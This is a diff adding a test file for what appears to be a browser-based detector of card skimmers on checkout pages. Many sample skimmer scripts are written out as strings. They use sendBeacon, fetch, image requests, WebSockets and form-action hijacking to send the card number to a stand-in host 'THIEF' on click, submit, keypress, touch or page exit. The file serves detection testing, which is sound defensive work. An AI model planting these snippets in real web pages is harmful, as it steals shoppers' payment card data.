@@ -1,0 +1,121 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { launchBrowser, type RunningBrowser } from '#session/index.ts'
+import { cardForm, watchPage } from './watch-page.ts'
+
+let browser: RunningBrowser
+beforeAll(async () => {
+  const launch = await launchBrowser({ env: process.env })
+  if (!launch.ok) throw new Error(launch.detail)
+  browser = launch.browser
+})
+afterAll(() => browser?.close())
+
+const pan = `document.getElementById('card').value`
+const beacon = `navigator.sendBeacon('http://THIEF/c', ${pan})`
+const form = `document.getElementById('f')`
+const button = `document.querySelector('button')`
+/** Listens, and acts only on what happens at the button, or on Enter. */
+const on = (target: string, type: string, work: string) =>
+  `${target}.addEventListener('${type}', function take(event) {
+    if (event.key ? event.key !== 'Enter' : /^(click|pointer|mouse)/.test(event.type) && !event.target.closest('button')) return
+    ${work} }, true)`
+
+describe('a skimmer that waits for the pay button is found with its script, though nothing reaches it', () => {
+  it.each([
+    ['the submission', on(form, 'submit', `navigator.sendBeacon('http://THIEF/c', new URLSearchParams(new FormData(this)))`)],
+    ['a click on the button', on(button, 'click', beacon)],
+    ['clicks anywhere', on('document', 'click', beacon)],
+    ['a pointer that goes down', on('document', 'pointerdown', beacon)],
+    ['a mouse button that goes down', on('document.body', 'mousedown', beacon)],
+    ['the Enter key', on('document', 'keydown', beacon)],
+    [
+      'the data of the form',
+      on(form, 'formdata', `fetch('http://THIEF/c', { method: 'POST', body: btoa(event.formData.get('cardnumber')) })`),
+    ],
+    [
+      'a click, and sends later',
+      on(button, 'click', `const n = ${pan}; setTimeout(() => { new Image().src = 'http://THIEF/c?' + n }, 1500)`),
+    ],
+    ['the submission, and turns the form', on(form, 'submit', `this.action = 'http://THIEF/c'`)],
+    ['a click, with a socket that is open', `const ws = new WebSocket('ws://THIEF/w'); ${on(button, 'click', `ws.send(${pan})`)}`],
+    ['a click, and opens a socket', on(button, 'click', `new WebSocket('ws://THIEF/c?' + ${pan})`)],
+    [
+      'the submission, and sends as the page is left',
+      on(form, 'submit', `const n = ${pan}; addEventListener('pagehide', () => navigator.sendBeacon('http://THIEF/c', n))`),
+      'leave',
+    ],
+  ])('%s', async (_name, skimmer, when = 'press') => {
+    const { canary, thieves, thiefHost, atThief, atShop, capture } = await watchPage(browser, { skimmer })
+    const sighting = canary.sightings.find((one) => one.value === 'card' && one.host === thiefHost)
+    expect(sighting).toMatchObject({ blocked: true, phase: when })
+    if (when === 'press') expect(thieves).toContain(sighting?.scriptId)
+    expect([...atThief, ...atShop].filter((line) => /\/c|\/pay|4242/.test(line))).toEqual([])
+    expect(capture.outcome.status).toBe('complete')
+  })
+
+  it('the submission of a form that the browser would refuse, as a box is not ticked', async () => {
+    const body = cardForm.replace('<button', '<label><input type=checkbox required> I agree</label><button')
+    const { canary, thiefHost } = await watchPage(browser, { skimmer: on(form, 'submit', beacon), body })
+    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
+  })
+  it('the submission of a form without a button', async () => {
+    const body = cardForm.replace('<button>Pay</button>', '')
+    const { canary, thiefHost, behaviours } = await watchPage(browser, { skimmer: on(form, 'submit', beacon), body })
+    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
+    expect(behaviours.filter(({ kind }) => kind === 'sends-form')).toEqual([])
+  })
+  it('a click on the button that pays, among others, beside fields in no form', async () => {
+    const body = `<main><label>Card number <input id=card autocomplete=cc-number></label><button>Apply coupon</button>
+      <div role=button id=go>Jetzt kaufen</div><button>Pay with PayPal</button></main>`
+    const { canary, thiefHost } = await watchPage(browser, {
+      skimmer: on(`document.getElementById('go')`, 'click', `fetch('http://THIEF/c?' + ${pan})`).replace(
+        `closest('button')`,
+        `closest('#go')`,
+      ),
+      body,
+    })
+    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
+  })
+  it('a click on the button outside of the frame that takes the card', async () => {
+    const body = `<iframe srcdoc="<label>Card number <input id=card autocomplete=cc-number></label>"></iframe><button>Pay</button>`
+    const read = `document.querySelector('iframe').contentDocument.getElementById('card').value`
+    const { canary, thiefHost } = await watchPage(browser, {
+      skimmer: on(button, 'click', `navigator.sendBeacon('http://THIEF/c', ${read})`),
+      body,
+    })
+    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
+  })
+  it('a tap on a phone', async () => {
+    const { canary, thiefHost } = await watchPage(browser, { skimmer: on(button, 'touchstart', beacon) }, { profile: 'mobile' })
+    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, phase: 'press' }))
+  })
+})
+
+describe('the press', () => {
+  it('changes nothing of what was read before it', async () => {
+    const shop = `const done = (event) => { event.preventDefault(); alert('Sorry'); open('/help'); document.title = 'Failed'
+      history.pushState(0, '', '/failed'); document.body.innerHTML = '<h1>Payment failed</h1><form action="/again"><input autocomplete=cc-number></form>' }
+      document.getElementById('f').addEventListener('submit', done)`
+    const still = await watchPage(browser, { shop: '' })
+    const { capture } = await watchPage(browser, { shop })
+    expect(capture.outcome).toMatchObject({ status: 'complete', issues: [] })
+    const facts = ({ page, forms, fields, frames }: typeof capture) => [
+      page.title,
+      page.text,
+      page.historyChanges,
+      forms.length,
+      fields.length,
+      frames.length,
+    ]
+    expect(facts(capture)).toEqual(facts(still.capture))
+  })
+  it('is not made in a passive visit, nor where no card was typed', async () => {
+    const skimmer = on('document', 'click', beacon)
+    const passive = await watchPage(browser, { skimmer }, { depth: 'passive' })
+    const cardless = await watchPage(browser, { skimmer, body: '<form><input name=email type=email><button>Pay</button></form>' })
+    for (const { capture } of [passive, cardless]) {
+      expect(capture.egress.filter(({ verdict, phase }) => verdict === 'network-cut' || phase === 'press')).toEqual([])
+      expect(capture.behaviours.filter(({ phase }) => phase === 'press')).toEqual([])
+    }
+  })
+})
